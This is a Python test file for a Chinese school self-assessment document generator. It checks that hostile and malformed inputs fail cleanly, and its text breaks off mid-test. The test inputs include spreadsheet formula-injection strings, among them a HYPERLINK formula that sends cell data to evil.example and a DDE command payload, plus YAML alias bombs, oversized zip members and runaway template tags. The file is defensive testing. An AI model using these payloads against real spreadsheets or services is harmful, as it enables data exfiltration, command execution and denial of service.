"""Safe with careless and hostile files: one regression test per hostile input found (huge, nested,
malformed, named like a path), each on the input that once broke a verb.

A bound on time is in CPU seconds of this process (`time.process_time`): a loaded machine or a parallel
worker does not make it fail, a loop that runs away still does."""
from __future__ import annotations

import io
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from conftest import GOOD_PRIMARY, REPO, school, write_yaml
from generator import limits
from generator.errors import InputErrors

SAMPLE_SCHOOL = REPO / "samples" / "dongshe-primary.yaml"
SAMPLE_CENTRE = REPO / "samples" / "dongong-centre.yaml"


def _clean(result, code=2):
    """Exit `code` with a message, never a traceback."""
    codes = code if isinstance(code, tuple) else (code,)
    assert result.exit_code in codes, result.output[-3000:]
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result.output


def _formula_cells(path):
    """(sheet, cell, value) of every formula cell in a workbook as it is stored."""
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _county(tmp_path, *schools, **facts):
    data = {"kind": "county", "name": "测试县", "schools": list(schools), **facts}
    return write_yaml(tmp_path / "county.yaml", data)


def _inline(**changes):
    entry = school(**changes)
    entry.pop("kind")
    return entry


# ---------------------------------------------------------------- 19.1 formula injection
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR"]


def test_check_xlsx_stores_a_formula_like_school_name_as_text(tmp_path, run):
    county = _county(tmp_path, _inline(name=HOSTILE[0]), _inline(name="+1+1"))
    out = tmp_path / "结论.xlsx"
    _clean(run("check", county, "--xlsx", out), (0, 1))
    assert _formula_cells(out) == []
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_ledger_keeps_only_its_own_sum_formula(tmp_path, run):
    facts = write_yaml(tmp_path / "s.yaml", school(books=100, responsibles={"K3": HOSTILE[1], "default": "@x"}))
    ledger = tmp_path / "台账.xlsx"
    _clean(run("plan", facts, "-o", tmp_path / "p.docx", "--ledger", ledger), 1)
    formulas = _formula_cells(ledger)
    assert len(formulas) == 1 and re.fullmatch(r"=SUM\(([A-Z]+)(\d+):\1(\d+)\)", formulas[0][2])
    values = [c.value for ws in openpyxl.load_workbook(ledger).worksheets for row in ws.iter_rows() for c in row]
    assert HOSTILE[1] in values


def test_slogan_workbook_stores_site_names_as_text(tmp_path, run):
    centre = yaml.safe_load(SAMPLE_CENTRE.read_text(encoding="utf-8"))
    centre["schools"][0]["banner_sites"] = ["=1+1", "@A1"]
    path = write_yaml(tmp_path / "c.yaml", centre)
    out = tmp_path / "标语.xlsx"
    _clean(run("slogans", "--centre", path, "-o", out), 0)
    assert _formula_cells(out) == []


def test_one_writer_rule_for_every_prefix():
    from openpyxl import Workbook

    from generator.io.writing import install_cell_rule, mark_formula, xlsx_bytes
    install_cell_rule()
    wb = Workbook()
    ws = wb.active
    for row, text in enumerate(HOSTILE, start=1):
        ws.cell(row=row, column=1, value=text)
    mark_formula(ws.cell(row=1, column=2), "=SUM(A1:A2)")
    ws.cell(row=20, column=1, value="#N/A")
    ws.cell(row=21, column=1, value="甲\x01乙")
    stored = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(wb))).active
    assert stored["A20"].value == "#N/A" and stored["A20"].data_type == "s"
    assert stored["A21"].value == "甲\ufffd乙"
    assert [stored.cell(row=r, column=1).value for r in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert all(stored.cell(row=r, column=1).data_type == "s" for r in range(1, len(HOSTILE) + 1))
    assert all(stored.cell(row=r, column=1).quotePrefix for r in range(1, len(HOSTILE) + 1))
    assert stored["B1"].data_type == "f" and stored["B1"].value == "=SUM(A1:A2)"


# ---------------------------------------------------------------- 19.2 YAML 1.1 quirks, profiles
@pytest.mark.parametrize("text, expected", [
    ("students: 16:21", "应为非负整数"),                       # not 981 (base 60)
    ("name: !!binary 5Lit5paH", "!!binary"),                  # not b'\xe4…'
    ("name: !!timestamp 2024-02-30", "!!timestamp"),
    ("year: !!int abc", "YAML"),
])
def test_yaml_11_quirks_are_refused(tmp_path, run, text, expected):
    data = dict(GOOD_PRIMARY)
    key = text.split(":")[0]
    data.pop(key, None)
    path = write_yaml(tmp_path / "s.yaml", data)
    path.write_text(path.read_text(encoding="utf-8") + text + "\n", encoding="utf-8")
    assert expected in _clean(run("check", path))


def test_yaml_12_numbers_and_dates(tmp_path):
    from generator.io.facts import load_facts
    path = write_yaml(tmp_path / "s.yaml", school(students=None, classes=None))
    path.write_text(path.read_text(encoding="utf-8") + "students: 0100\nclasses: 020\n", encoding="utf-8")
    loaded = load_facts(path)
    assert loaded.facts["students"] == {"primary": 100}       # decimal, not octal 64
    assert loaded.facts["classes"] == 20
    named = write_yaml(tmp_path / "d.yaml", school(name=None))
    named.write_text(named.read_text(encoding="utf-8") + "name: 2024-02-30\n", encoding="utf-8")
    assert load_facts(named).name == "2024-02-30"             # a name, not a date (nor a traceback)


def test_negative_news_per_month_is_refused(tmp_path, run):
    centre = yaml.safe_load(SAMPLE_CENTRE.read_text(encoding="utf-8"))
    centre["news_per_month"] = -3
    path = write_yaml(tmp_path / "c.yaml", centre)
    assert "不能为负数" in _clean(run("publicity", path, "-o", tmp_path / "x.docx"))
    assert not (tmp_path / "x.docx").exists()


def test_formula_without_cached_value_is_named(tmp_path, run):
    book = tmp_path / "s.xlsx"
    _clean(run("export", SAMPLE_SCHOOL, "-o", book), 0)
    # the first number of the school's row becomes a formula with no computed value
    def change(xml):
        return re.sub(rb'<c r="([A-Z]+4)"([^>]*?)(?: t="n")?([^>]*)><v>[0-9.]+</v></c>', rb'<c r="\1"><f>1+1</f></c>',
                      xml, count=1)
    data = _rewrite_member(book.read_bytes(), "xl/worksheets/sheet1.xml", change)
    assert data != book.read_bytes()
    book.write_bytes(data)
    output = _clean(run("check", book))
    assert re.search(r"[A-Z]+4", output) and "公式" in output


@pytest.mark.parametrize("override, words", [
    ("pass_rule: {min_met: -1}", "min_met"),
    ("K3: {threshold: -15}", "threshold"),
    ("K3: {threshold: many}", "threshold"),
    ("K3: {threshold: .nan}", "threshold"),
    ("K3: {threshold: .inf}", "threshold"),
    ("K3: {threshold: {primary: -1, junior: 25}}", "threshold.primary"),
    ("pass_rule: {min_met: 8, failed_floor: 2}", "failed_floor"),
    ("B3: {checks: [{measure: value, of: disabled_enrolment_rate, op: '>=', threshold: 0.8, "
     "deduct: {per: 0, points: 1}}]}", "per"),
])
def test_profile_override_fields_are_checked(tmp_path, run, override, words):
    profile = tmp_path / "本县标准.yaml"
    profile.write_text(f"inherits: basic-2012\noverrides:\n  {override}\n", encoding="utf-8")
    output = _clean(run("check", SAMPLE_SCHOOL, "--profile", profile))
    assert words in output and "本县标准.yaml" in output and "第 3 行" in output


def test_a_failing_school_is_not_passed_by_a_negative_min_met(tmp_path, run):
    profile = tmp_path / "p.yaml"
    profile.write_text("inherits: basic-2012\noverrides:\n  pass_rule: {min_met: -1}\n", encoding="utf-8")
    facts = write_yaml(tmp_path / "s.yaml", school(books=10))
    _clean(run("check", facts, "--profile", profile), 2)


# ---------------------------------------------------------------- 19.3 output paths
def test_parent_that_is_a_file(tmp_path, run):
    (tmp_path / "file").write_text("x")
    output = _clean(run("check", SAMPLE_SCHOOL, "--xlsx", tmp_path / "file" / "out.xlsx"))
    assert "不是文件夹" in output


def test_output_that_is_a_folder_even_with_force(tmp_path, run):
    (tmp_path / "out.xlsx").mkdir()
    assert "是文件夹" in _clean(run("check", SAMPLE_SCHOOL, "--xlsx", tmp_path / "out.xlsx", "--force"))
    (tmp_path / "r.docx").mkdir()
    assert "文件夹" in _clean(run("report", SAMPLE_SCHOOL, "-o", tmp_path / "r.docx", "--force"))
    assert "是文件夹" in _clean(run("audit", SAMPLE_SCHOOL, "-o", tmp_path / "r.docx", "--force"))


def test_read_only_folder(tmp_path, run, monkeypatch):
    # Tests may run as root, for whom every folder is writable: ask os.access what a clerk would get.
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode: False if Path(p) == tmp_path / "ro" else real(p, mode))
    (tmp_path / "ro").mkdir()
    assert "不可写" in _clean(run("new", "school", "-o", tmp_path / "ro" / "s.yaml"))


def test_a_write_that_fails_is_exit_2(tmp_path, run, monkeypatch):
    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")
    monkeypatch.setattr("tempfile.mkstemp", refuse)
    assert "Permission denied" in _clean(run("check", SAMPLE_SCHOOL, "--xlsx", tmp_path / "o.xlsx"))
    assert list(tmp_path.iterdir()) == []


def test_slogans_same_file_twice_is_refused_before_writing(tmp_path, run):
    out = tmp_path / "x.docx"
    assert "同一个文件" in _clean(run("slogans", "-o", out, "--print", out))
    assert not out.exists()


def test_slogans_pdf_refused_before_the_docx(tmp_path, run):
    (tmp_path / "x.pdf").write_text("old")
    _clean(run("slogans", "-o", tmp_path / "x.docx", "--pdf"))
    assert not (tmp_path / "x.docx").exists()


def test_publicity_pdf_refused_before_the_docx(tmp_path, run):
    (tmp_path / "p.pdf").write_text("old")
    _clean(run("publicity", SAMPLE_CENTRE, "-o", tmp_path / "p.docx", "--pdf"))
    assert not (tmp_path / "p.docx").exists()


def test_audit_opinion_and_facts_to_one_file(tmp_path, run):
    out = tmp_path / "a.docx"
    report = REPO / "samples" / "reports" / "xinghuo-planted.txt"
    assert "同一个文件" in _clean(run("audit", report, "-o", out, "--emit-facts", out))
    assert not out.exists()


def test_an_output_may_not_be_an_input(tmp_path, run):
    facts = write_yaml(tmp_path / "s.yaml", school())
    before = facts.read_bytes()
    _clean(run("export", facts, "-o", facts, "--force"))
    assert facts.read_bytes() == before


# ---------------------------------------------------------------- 19.4 interrupts
def test_stale_temporary_files_are_cleaned(tmp_path):
    from generator.io.writing import clean_stale_temps, write_bytes_atomic
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".甲自查报告.docx.{dead.pid}.abcd1234.tmp"
    stale.write_bytes(b"half")
    mine = tmp_path / f".甲自查报告.docx.{os.getpid()}.abcd1234.tmp"
    mine.write_bytes(b"in progress")
    other = tmp_path / ".hidden.tmp"
    other.write_bytes(b"not ours")
    assert clean_stale_temps(tmp_path) == 1
    assert not stale.exists() and mine.exists() and other.exists()
    stale.write_bytes(b"half")
    write_bytes_atomic(tmp_path / "甲自查报告.docx", b"whole")
    assert not stale.exists()


def _big_county(tmp_path, count):
    entries = [_inline(name=f"第{i}小学") for i in range(count)]
    return _county(tmp_path, *entries)


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="signals")
def test_ctrl_c_stops_each_school_within_a_second(tmp_path):
    # 1,500 schools: the documents are written after they are all rendered, and the signal must arrive while
    # hundreds are still to be written (at 400 a busy machine can see them all written before it signals)
    count = 1500
    county = _big_county(tmp_path, count)
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    process = subprocess.Popen([sys.executable, "-m", "generator", "report", str(county), "--each-school",
                                "-o", str(out), "--jobs", "2", "--date", "2024-09-01"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=tmp_path,
                               # Ctrl-C as a terminal delivers it, even when the tests themselves were started in
                               # the background (a shell starts those with SIGINT ignored, and a child inherits that)
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not (out.is_dir() and len(list(out.glob("*.docx"))) >= 20):
        time.sleep(0.05)
    at_signal = len(list(out.glob("*.docx")))
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate(timeout=60)
    text = stderr.decode("utf-8")
    assert process.returncode == 130, text
    # Counted, not timed (a busy machine makes any clock bound flaky; about 0.2 s when measured by
    # hand on an idle one): after Ctrl-C only the documents already in the workers' hands may still be
    # written — the old behaviour wrote every queued one, hundreds more.
    assert len(list(out.glob("*.docx"))) - at_signal <= 20
    assert "Traceback" not in text
    written = len(list(out.glob("*.docx")))
    match = re.search(r"已中断：写入 (\d+) 份，未写入 (\d+) 份", text)
    assert match, text
    assert int(match.group(1)) + int(match.group(2)) == count
    assert written < count and abs(int(match.group(1)) - written) <= 2
    time.sleep(0.5)
    assert not list(out.glob(".*.tmp"))


def test_workers_end_with_their_parent(tmp_path):
    script = tmp_path / "parent.py"
    script.write_text(
        "import sys, time, multiprocessing as mp\n"
        f"sys.path.insert(0, {str(REPO)!r})\n"
        "from concurrent.futures import ProcessPoolExecutor\n"
        "from generator.render.workers import school_worker_init\n"
        "if __name__ == '__main__':\n"
        "    pool = ProcessPoolExecutor(1, mp_context=mp.get_context('spawn'), initializer=school_worker_init)\n"
        "    pool.submit(time.sleep, 0).result()\n"
        "    print(list(pool._processes)[0], flush=True)\n"
        "    time.sleep(60)\n", encoding="utf-8")
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE)
    worker = int(parent.stdout.readline())
    parent.kill()
    parent.wait()
    for _ in range(40):
        try:
            os.kill(worker, 0)
        except ProcessLookupError:
            return
        time.sleep(0.1)
    pytest.fail("the worker outlived its parent")


# ---------------------------------------------------------------- 19.5 templates and --measures
def _template(tmp_path, text):
    import docx
    document = docx.Document()
    document.add_paragraph(text)
    path = tmp_path / "my.docx"
    document.save(path)
    return path


@pytest.mark.parametrize("tag, words", [
    ("{{ 1/0 }}", "division by zero"),
    ('{{ "%d" % "a" }}', "real number"),
    ('{% include "x.docx" %}', "loader"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "recursion"),
    ("{% for i in range(10**9) %}x{% endfor %}", "range"),
    ("{{ 'a' * 10**9 }}", "超过"),
    ('{{ "x" | center(1000000000) }}', "center"),
    ('{{ "%0999999999d" % 1 }}', "格式宽度"),
])
def test_hostile_user_template(tmp_path, run, tag, words):
    template = _template(tmp_path, tag)
    out = tmp_path / "r.docx"
    output = _clean(run("report", SAMPLE_SCHOOL, "--template", template, "-o", out, "--date", "2024-09-01"))
    assert words in output and tag[:10] in output           # the tag is named
    assert not out.exists()


def test_a_template_limit_is_said_in_the_language_of_the_run(tmp_path, run):
    # the limit's own words travel in both languages and are chosen when the error is shown
    template = _template(tmp_path, '{{ "%0999999999d" % 1 }}')
    chinese = _clean(run("report", SAMPLE_SCHOOL, "--template", template, "-o", tmp_path / "r.docx"))
    english = _clean(run("--lang", "en", "report", SAMPLE_SCHOOL, "--template", template, "-o", tmp_path / "r.docx"))
    assert "格式宽度过大" in chinese and "a format width that is too large" not in chinese
    assert "a format width that is too large" in english and "格式宽度过大" not in english
    assert not (tmp_path / "r.docx").exists()


def test_endless_template_is_stopped_by_the_time_limit(tmp_path, run, monkeypatch):
    monkeypatch.setattr(limits, "MAX_TEMPLATE_SECONDS", 1)
    template = _template(tmp_path, "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                                   "{% endfor %}")
    started = time.process_time()
    output = _clean(run("report", SAMPLE_SCHOOL, "--template", template, "-o", tmp_path / "r.docx"))
    assert time.process_time() - started < 10
    assert "1 秒" in output


def _encoded(content, encoding):
    # GBK is read (as every YAML file is: UTF-8, UTF-16 with BOM, GB18030); bytes no encoding reads are not
    if encoding == "undecodable":
        return content.encode("utf-8") + b"#\x81\x30\n"
    return content.encode(encoding)


@pytest.mark.parametrize("content, encoding, words", [
    ("items:\n  K3:\n    measures: [补充图书{quantity}]\n", "undecodable", "UTF-8"),
    ("items: " + "[" * 5000 + "]" * 5000 + "\n", "utf-8", "YAML"),
    ("items:\n  K3:\n    phase: 1\n", "utf-8", "measures"),
    ("items:\n  K3:\n    measures: ['补充图书{quanity}']\n", "utf-8", "{quantity}"),
    ("items:\n  K3:\n    measures: ['补充图书{quantity.__class__}']\n", "utf-8", "占位符"),
    ("items:\n  K3:\n    measures: [42]\n", "utf-8", "应为文字"),
    ("items:\n  K3:\n    measures: [x]\n    cost: gold\n", "utf-8", "cost"),
    ("items: [1, 2]\n", "utf-8", "items"),
    ("itmes: {}\n", "utf-8", "items"),
])
def test_measures_file_is_validated(tmp_path, run, content, encoding, words):
    mine = tmp_path / "措施.yaml"
    mine.write_bytes(_encoded(content, encoding))
    facts = write_yaml(tmp_path / "s.yaml", school(books=100))
    out = tmp_path / "p.docx"
    output = _clean(run("plan", facts, "-o", out, "--measures", mine))
    assert words in output and "措施.yaml" in output
    assert not out.exists()


def test_measures_clause_braces_and_no_reprs():
    from generator.io.measures_file import render_clause
    assert render_clause("补充{quantity}，{{注}}，{ 不是占位符", quantity="图书 900 册") == \
        "补充图书 900 册，{注}，{ 不是占位符"
    assert render_clause("{name}{standard}", name="甲", standard="15册/生") == "甲15册/生"


def test_a_county_measures_file_without_fallback_uses_the_shipped_one(tmp_path, run):
    mine = tmp_path / "m.yaml"
    mine.write_text("items:\n  K3:\n    phase: 1\n    cost: book\n    measures: ['向县图书馆调拨图书{quantity}，{{急}}']\n",
                    encoding="utf-8")
    facts = write_yaml(tmp_path / "s.yaml", school(books=100))
    ledger = tmp_path / "l.xlsx"
    _clean(run("plan", facts, "-o", tmp_path / "p.docx", "--ledger", ledger, "--measures", mine), 1)
    texts = [str(c.value) for ws in openpyxl.load_workbook(ledger).worksheets for row in ws.iter_rows() for c in row]
    assert any(re.search(r"向县图书馆调拨图书14,?900册，\{急\}", t.replace(" ", "")) for t in texts), texts


# ---------------------------------------------------------------- 19.6 size limits
def _rewrite_member(data: bytes, name: str, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, change(content) if info.filename == name else content)
    return out.getvalue()


@pytest.fixture
def county_book(tmp_path, run):
    book = tmp_path / "county.xlsx"
    _clean(run("export", REPO / "samples" / "county" / "county.yaml", "-o", book), 0)
    return book


def test_a_cell_on_the_last_row(tmp_path, run, county_book):
    data = _rewrite_member(county_book.read_bytes(), "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="n"><v>1</v></c></row></sheetData>'))
    county_book.write_bytes(data)
    started = time.process_time()
    output = _clean(run("check", county_book))
    assert time.process_time() - started < 10
    assert "1,048,576" in output and f"{limits.MAX_ROWS:,}" in output


def test_a_million_rows(tmp_path, run, county_book):
    import bombs
    head = b'<?xml version="1.0"?><worksheet ' + bombs.MAIN + b"><sheetData>"
    path = bombs._add_sheet(county_book, tmp_path / "rows.xlsx", "行", "xl/worksheets/sheet99.xml", head,
                            b'<row><c t="n"><v>1</v></c></row>', 1_048_576, b"</sheetData></worksheet>")
    started = time.process_time()
    output = _clean(run("check", path))
    assert time.process_time() - started < 20
    assert f"{limits.MAX_ROWS:,}" in output


def test_a_merged_range_to_the_end_of_the_sheet(tmp_path, run, county_book):
    data = _rewrite_member(county_book.read_bytes(), "xl/worksheets/sheet1.xml", lambda xml: re.sub(
        rb"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A20:XFD1048576"/></mergeCells>',
        xml.replace(b"<mergeCells", b"<ignored").replace(b"</mergeCells>", b"</ignored>")
        if b"<mergeCells" not in xml else xml, count=1))
    county_book.write_bytes(data)
    output = _clean(run("check", county_book))
    assert "A20:XFD1048576" in output


def test_inflated_shared_strings(tmp_path, run, county_book, monkeypatch):
    # The real bomb (2 MB → 2 GB) is refused by the same check on the zip's declared sizes.
    monkeypatch.setattr(limits, "MAX_XLSX_UNCOMPRESSED", 20_000)
    data = _rewrite_member(county_book.read_bytes(), "xl/sharedStrings.xml",
                           lambda xml: xml + b"<!--" + b" " * 100_000 + b"-->")
    county_book.write_bytes(data)
    output = _clean(run("check", county_book))
    assert "解压后超过" in output


def test_yaml_alias_bomb_is_refused_at_once(tmp_path, run):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    lines += ["kind: school", "name: *a11"]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    started = time.process_time()
    output = _clean(run("check", path))
    assert time.process_time() - started < 5
    assert "1,000,000" in output


def test_file_size_limit(tmp_path, run, monkeypatch):
    monkeypatch.setattr(limits, "MAX_YAML_BYTES", 1000)
    path = write_yaml(tmp_path / "s.yaml", school(name="甲" * 600))
    assert "文件过大" in _clean(run("check", path))


# ---------------------------------------------------------------- 19.7 no silent truncation
def test_export_refuses_text_over_the_cell_limit(tmp_path, run):
    path = write_yaml(tmp_path / "s.yaml", school(name="甲" * 40_000))
    out = tmp_path / "s.xlsx"
    assert "32,767" in _clean(run("export", path, "-o", out))
    assert not out.exists()


def test_the_writer_refuses_too_long_text():
    from openpyxl import Workbook

    from generator.io.writing import install_cell_rule
    install_cell_rule()
    wb = Workbook()
    with pytest.raises(InputErrors) as caught:
        wb.active["C3"] = "x" * 32_768        # openpyxl alone would cut it to 32,767 silently
    assert "C3" in caught.value.describe() and "32,767" in caught.value.describe()


# ---------------------------------------------------------------- 19.8 messages
def test_no_internal_type_names(tmp_path, run):
    path = tmp_path / "s.yaml"
    path.write_text("- a\n- b\n", encoding="utf-8")
    output = _clean(run("check", path))
    assert "LineList" not in output and "list" not in output
    county = _county(tmp_path, None)
    output = _clean(run("check", county))
    assert "NoneType" not in output


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="posix")
def test_dev_zero_is_not_a_regular_file(tmp_path, run):
    assert "不是普通文件" in _clean(run("check", "/dev/zero"))
    os.mkfifo(tmp_path / "fifo.yaml")
    assert "不是普通文件" in _clean(run("check", tmp_path / "fifo.yaml"))
    county = _county(tmp_path, "fifo.yaml")
    output = _clean(run("check", county))
    assert "不是普通文件" in output and "不存在" not in output


def test_costs_hint_names_the_costs_file(tmp_path, run):
    costs = tmp_path / "c.yaml"
    costs.write_text("zzz: 5\n", encoding="utf-8")
    output = _clean(run("plan", SAMPLE_SCHOOL, "-o", tmp_path / "p.docx", "--costs", costs))
    assert "rules/costs.yaml" in output and "new school" not in output


@pytest.mark.parametrize("name", [".", "..", " ", "...", "CON", "a/b"])
def test_odd_school_names_get_real_file_names(tmp_path, run, name):
    county = _county(tmp_path, _inline(name=name), _inline(name="乙"))
    out = tmp_path / "out"
    _clean(run("report", county, "--each-school", "-o", out, "--jobs", "1", "--date", "2024-09-01"), (0, 1))
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 2 and "乙自查报告.docx" in names
    odd = next(n for n in names if n != "乙自查报告.docx")
    assert odd.endswith("自查报告.docx") and not odd.startswith((".", " ")) and "/" not in odd
    assert odd.split("自查报告")[0].upper() != "CON"


# ---------------------------------------------------------------- Chinese keys, the table
def test_inline_school_with_chinese_keys(tmp_path):
    from generator.io.facts import load_facts
    path = tmp_path / "c.yaml"
    path.write_text("类型: county\n县名: 测试县\nschools:\n  - {类型: school, 学校名称: 甲, 学段: primary, 在校生数: 500}\n",
                    encoding="utf-8")
    county = load_facts(path)
    assert [s.name for s in county.schools] == ["甲"]
    assert county.schools[0].facts["students"] == {"primary": 500}


def test_inline_school_with_chinese_keys_each_school(tmp_path, run):
    path = tmp_path / "c.yaml"
    path.write_text("类型: county\n县名: 测试县\nschools:\n  - {类型: school, 学校名称: 甲, 学段: primary, 在校生数: 500}\n",
                    encoding="utf-8")
    result = run("report", path, "--each-school", "-o", tmp_path / "out", "--jobs", "1")
    assert result.exit_code in (0, 1), result.output
    assert (tmp_path / "out" / "甲自查报告.docx").exists()


NUMBER_25 = "1234567890123456789012345"


@pytest.mark.parametrize("verb", ["check", "report", "plan", "audit", "slogans"])
def test_25_digit_number(tmp_path, run, verb):
    path = write_yaml(tmp_path / "s.yaml", school())
    path.write_text(path.read_text(encoding="utf-8").replace("books: 20000", f"books: {NUMBER_25}"),
                    encoding="utf-8")
    args = {"check": ["check", path], "report": ["report", path, "-o", tmp_path / "r.docx"],
            "plan": ["plan", path, "-o", tmp_path / "p.docx"], "audit": ["audit", path],
            "slogans": ["slogans", "--for", path]}[verb]
    output = _clean(run(*args))
    assert "books" in output and "10^15" in output
    assert not list(tmp_path.glob("*.docx"))


def test_25_digit_number_in_publicity(tmp_path, run):
    centre = yaml.safe_load(SAMPLE_CENTRE.read_text(encoding="utf-8"))
    path = write_yaml(tmp_path / "c.yaml", centre)
    path.write_text(path.read_text(encoding="utf-8").replace("news_per_month: 1", f"news_per_month: {NUMBER_25}"),
                    encoding="utf-8")
    assert "10^15" in _clean(run("publicity", path, "-o", tmp_path / "p.docx"))


def test_numbers_with_more_than_15_digits(tmp_path):
    from generator.io.facts import load_facts
    # written out in full by a program, quoted or not: rounded half-up to Excel's 15 significant digits
    path = write_yaml(tmp_path / "s.yaml", school(building_area_m2="6000.000000000001",
                                                   land_area_m2="1,532,474.9988972795"))
    loaded = load_facts(path).facts
    assert loaded["building_area_m2"] == 6000 and str(loaded["land_area_m2"]) == "1532474.99889728"
    unquoted = tmp_path / "u.yaml"
    unquoted.write_text(path.read_text(encoding="utf-8").replace("land_area_m2: 1,532,474.9988972795",
                                                                 "land_area_m2: 1532474.9988972795"), encoding="utf-8")
    assert "1532474.9988972795" in unquoted.read_text(encoding="utf-8")
    assert load_facts(unquoted).facts["land_area_m2"] == loaded["land_area_m2"]
    # a spreadsheet's float noise is rounded to Excel's 15 digits, not refused
    noisy = write_yaml(tmp_path / "n.yaml", school(network_space_rate=0.8000000000000002))
    assert load_facts(noisy).facts["network_space_rate"] == 0.8


@pytest.mark.parametrize("verb", ["check", "export", "audit"])
def test_5000_digit_integer(tmp_path, run, verb):
    path = write_yaml(tmp_path / "s.yaml", school())
    path.write_text(path.read_text(encoding="utf-8").replace("books: 20000", "books: " + "9" * 5000),
                    encoding="utf-8")
    args = {"check": ["check", path], "export": ["export", path, "-o", tmp_path / "x.xlsx"],
            "audit": ["audit", path]}[verb]
    assert "books" in _clean(run(*args))


def test_5000_digit_integer_in_a_report_text(tmp_path, run):
    text = (REPO / "samples" / "reports" / "xinghuo-planted.txt").read_text(encoding="utf-8")
    text = text.replace("图书7200册", "图书" + "7" * 5000 + "册")
    path = tmp_path / "r.txt"
    path.write_text(text, encoding="utf-8")
    result = run("audit", path)
    assert result.exit_code in (0, 1, 2) and (result.exception is None or isinstance(result.exception, SystemExit))
    assert "junheng-report-" not in result.output          # errors name the report, not a temporary file


@pytest.mark.parametrize("char", ["\x01", "\ufffe", "\x1f"])
@pytest.mark.parametrize("verb", ["check", "plan", "slogans"])
def test_control_character_in_a_name(tmp_path, run, char, verb):
    escaped = "\\x01" if char == "\x01" else "\\uFFFE" if char == "\ufffe" else "\\x1F"
    if verb == "slogans":
        centre = yaml.safe_load(SAMPLE_CENTRE.read_text(encoding="utf-8"))
        path = write_yaml(tmp_path / "c.yaml", centre)
        path.write_text(path.read_text(encoding="utf-8").replace("name: 陆坪完小", f'name: "陆坪{escaped}完小"'),
                        encoding="utf-8")
        args = ["slogans", "--centre", path, "-o", tmp_path / "o.xlsx"]
    else:
        path = write_yaml(tmp_path / "s.yaml", school(name=None))
        path.write_text(path.read_text(encoding="utf-8") + f'name: "甲{escaped}小学"\n', encoding="utf-8")
        args = ["check", path, "--xlsx", tmp_path / "o.xlsx"] if verb == "check" else \
            ["plan", path, "-o", tmp_path / "p.docx", "--ledger", tmp_path / "o.xlsx"]
    output = _clean(run(*args))
    assert "控制字符" in output
    assert not (tmp_path / "o.xlsx").exists()


@pytest.mark.parametrize("verb", ["report", "publicity"])
def test_300_character_school_name(tmp_path, run, verb):
    long_a, long_b = "甲" * 299 + "一", "甲" * 299 + "二"
    if verb == "report":
        source = _county(tmp_path, _inline(name=long_a), _inline(name=long_b))
        args = ["report", source, "--each-school", "-o", tmp_path / "out", "--jobs", "1", "--date", "2024-09-01"]
    else:
        centre = yaml.safe_load(SAMPLE_CENTRE.read_text(encoding="utf-8"))
        centre["schools"] = [{"name": long_a, "banner_sites": ["校门"]}, {"name": long_b, "banner_sites": ["村口"]}]
        source = write_yaml(tmp_path / "c.yaml", centre)
        args = ["publicity", source, "--each-school", "-o", tmp_path / "out"]
    _clean(run(*args), (0, 1))
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert len(names) == 2 and names[0] != names[1]
    assert all(len(n.encode("utf-8")) <= 180 for n in names)
    # stable: the same name gives the same file name
    from generator.sanitize import file_name
    assert file_name(long_a, "x.docx") == file_name(long_a, "x.docx") != file_name(long_b, "x.docx")


# ---------------------------------------------------------------- the same path for every user file
def _bomb_text():
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def test_profile_file_goes_through_the_limits(tmp_path, run):
    bomb = tmp_path / "p.yaml"
    bomb.write_text("inherits: basic-2012\n" + _bomb_text() + "overrides: {K3: {threshold: *a11}}\n", encoding="utf-8")
    started = time.process_time()
    assert "1,000,000" in _clean(run("check", SAMPLE_SCHOOL, "--profile", bomb))
    assert time.process_time() - started < 5
    sexagesimal = tmp_path / "q.yaml"
    sexagesimal.write_text("inherits: basic-2012\noverrides:\n  K3: {threshold: 16:21}\n", encoding="utf-8")
    assert "16:21" in _clean(run("check", SAMPLE_SCHOOL, "--profile", sexagesimal))


@pytest.mark.parametrize("content, encoding, words", [
